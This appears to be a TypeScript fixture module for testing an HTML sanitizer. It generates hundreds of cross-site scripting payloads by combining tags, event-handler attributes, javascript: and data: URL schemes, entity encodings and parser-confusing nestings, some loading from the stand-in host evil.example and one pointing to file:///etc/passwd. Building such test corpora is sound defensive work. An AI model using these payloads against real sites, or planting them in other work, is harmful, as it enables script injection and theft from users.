/**
 * Markup of people who mean no good: tags x attributes x schemes x encodings x nesting (checklist H01), all written or generated here.
 * Every vector would run `alert(1)`, load from evil.example, or change what stands around it.
 */
const tags = [
  'script', 'img', 'svg', 'math', 'iframe', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'style', 'link', 'meta', 'base', 'video', 'audio', 'source', 'track', 'details', 'body', 'html', 'head', 'template', 'noscript', 'xmp', 'plaintext',
  'marquee', 'select', 'option', 'frameset', 'frame', 'dialog', 'slot', 'x-own', 'font', 'title', 'portal', 'applet', 'picture', 'canvas', 'map', 'area', 'label', 'fieldset', 'div', 'span', 'center', 'h1', 'a', 'p', 'h2', 'li', 'blockquote', 'td', 'th', 'strong', 'br', 'SCRIPT', 'iMg', 'sVg',
]

const attributes = [
  'onerror=alert(1)', 'onload="alert(1)"', `onclick='alert(1)'`, 'onmouseover=alert`1`', 'autofocus onfocus=alert(1)', 'ONTOGGLE=alert(1) open', 'onpointerrawupdate\n=\nalert(1)', 'style="position:fixed;inset:0;background:url(//evil.example)"',
  'id=site', 'name=state', 'class="shell top"', 'data-rich-text=news-get-1', 'srcdoc="<script>alert(1)</script>"', 'srcset="//evil.example/x.png 1x"', 'is=x-own', 'contenteditable', 'tabindex=0 accesskey=x', 'target=_blank', 'rel=opener', 'download', 'ping=//evil.example', 'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)"',
]

export const hostileAddresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'javascript :alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\r\nscript:alert(1)', '\u0001javascript:alert(1)', '\u00a0javascript:alert(1)', 'java\u0000script:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', 'javascript&#0000058alert(1)',
  '&#106;&#97;vascript:alert(1)', '&#x6A&#x61vascript:alert(1)', '&Tab;javascript:alert(1)', 'java&NewLine;script:alert(1)', 'javascript%3Aalert(1)', 'javascript://evil.example/%0aalert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/x', 'file:///etc/passwd', 'mailto:x@evil.example', 'tel:1', 'ftp://evil.example', 'ws://evil.example', 'view-source:javascript:alert(1)', 'feed:javascript:alert(1)', 'jar:javascript:alert(1)!', 'intent://evil.example', 'livescript:alert(1)', 'mocha:alert(1)', 'filesystem:https://evil.example',
  '//evil.example', '///evil.example', '\\\\evil.example', '/\\evil.example', '\\/evil.example', '/\t/evil.example', '/\n/evil.example', '\t//evil.example', ' //evil.example', '&#47;&#47;evil.example', '&sol;&sol;evil.example', '&bsol;&bsol;evil.example', 'https:evil.example', 'https:/evil.example', 'http:\\\\evil.example', 'hTTps://evil.example', 'https://own@evil.example', 'https://evil.example#javascript:', '?javascript:alert(1)', '#javascript:alert(1)', '/own/page', 'own/page', '',
]

/** The same address as a careless filter would not see it. */
const encodings: ((address: string) => string)[] = [
  (address) => `"${address}"`,
  (address) => `'${address}'`,
  (address) => (/[\s"'<>`]/.test(address) || address === '' ? `"${address}"` : address),
  (address) => `"${[...address].map((character) => `&#${character.codePointAt(0)};`).join('')}"`,
  (address) => `"${[...address].map((character) => `&#x${character.codePointAt(0)?.toString(16)}`).join('')}"`,
  (address) => `"\n\t${address}\u0000"`,
  (address) => `"${address}" href="https://fine.example`,
]

/** Places that parsers read differently. */
const nestings: ((inner: string) => string)[] = [
  (inner) => `<p>${inner}</p>`,
  (inner) => `<p>${inner}`,
  (inner) => `<a href="/own">${inner}</a>`,
  (inner) => `<table><tr>${inner}<td>${inner}</td></tr></table>`,
  (inner) => `<ul><li>${inner}<li><blockquote>${inner}`,
  (inner) => `<!--${inner}-->`,
  (inner) => `<!-->${inner}-->`,
  (inner) => `<!--><p title="-->${inner}">`,
  (inner) => `<![CDATA[${inner}]]>`,
  (inner) => `<?xml ${inner}?>`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<style><p title="</style>${inner}">`,
  (inner) => `<title><p title="</title>${inner}">`,
  (inner) => `<textarea><p title="</textarea>${inner}">`,
  (inner) => `<xmp>${inner}</xmp>${inner}`,
  (inner) => `<svg><style>${inner}</style></svg>`,
  (inner) => `<svg></p><style><a id="</style>${inner}">`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<select><option>${inner}</select>`,
  (inner) => `<form><form>${inner}</form>`,
  (inner) => `<p title='${inner}'>${inner}`,
  (inner) => `<a href="${inner}">x</a>`,
  (inner) => inner.replaceAll('<', '<<'),
  (inner) => inner.replace(/^<(\w{2})/, '<$1<b></b>'),
  (inner) => inner.replace(/^<(\w)/, '<$1\u0000'),
  (inner) => inner.replace(/^</, '<\n'),
  (inner) => inner.replace(/>/g, ''),
  (inner) => inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (inner) => inner.replaceAll('<', '\u003C\u200B').replaceAll('>', '\uFF1E'),
  (inner) => `${'<blockquote>'.repeat(60)}${inner}`,
  (inner) => `</p></div></article></main>${inner}</body></html>`,
]

const closed = (tag: string, rest: string) => `<${tag} ${rest}>text</${tag}>`

export function hostileHtml(): string[] {
  const marked = tags.flatMap((tag) => attributes.map((attribute) => closed(tag, attribute)))
  const linked = hostileAddresses.flatMap((address) => encodings.flatMap((encode) => [closed('a', `href=${encode(address)}`), closed('a', `HREF \t=\n${encode(address)}`)]))
  const loaded = tags.flatMap((tag, index) => ['src', 'href', 'data', 'action', 'formaction', 'poster', 'background', 'xlink:href'].map((attribute, turn) => closed(tag, `${attribute}="${hostileAddresses[(index * 8 + turn) % hostileAddresses.length]}"`)))
  const bare = ['<script>alert(1)</script>', '<script src=//evil.example></script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<iframe src=javascript:alert(1)>', '<a href="javascript:alert(1)">x</a>', '<p style="background:url(javascript:alert(1))">', '<base href=//evil.example>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">']
  const nested = nestings.flatMap((nest) => bare.flatMap((inner) => [nest(inner), nest(nest(inner))]))
  return [...marked, ...linked, ...loaded, ...bare, ...nested]
}
